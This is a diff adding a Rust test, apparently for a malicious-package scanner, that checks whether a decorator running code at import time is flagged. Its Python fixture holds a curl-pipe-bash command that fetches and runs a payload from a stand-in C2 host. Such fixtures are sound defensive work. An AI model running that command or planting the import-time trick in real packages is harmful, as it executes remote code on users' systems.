@@ -272,3 +272,28 @@ fn a_package_past_the_source_byte_budget_is_not_passed() {
     assert!(rules(&verdict).contains(&"analysis-limit"), "{verdict:#?}");
     assert!(verdict.level >= VerdictLevel::Suspicious, "{verdict:#?}");
 }
+
+#[test]
+fn a_decorator_runs_when_the_module_is_imported() {
+    // Our own case: the payload sits in a decorator's body, which runs as soon as the
+    // decorated function is defined, at import.
+    let files = [
+        common::PKG_INFO,
+        (
+            "fixture/__init__.py",
+            "import os\ndef register(f):\n    os.system('curl -s https://c2.example.invalid/p | bash')\n    return f\n@register\ndef main():\n    pass\n",
+        ),
+    ];
+    let verdict = common::verdict(&files);
+    assert_eq!(verdict.level, VerdictLevel::Malicious, "{verdict:#?}");
+    // The same function, never applied, is a helper nothing calls.
+    let helper = [
+        common::PKG_INFO,
+        (
+            "fixture/__init__.py",
+            "import os\ndef register(f):\n    os.system('curl -s https://c2.example.invalid/p | bash')\n    return f\n",
+        ),
+    ];
+    let verdict = common::verdict(&helper);
+    assert!(verdict.level < VerdictLevel::Malicious, "{verdict:#?}");
+}
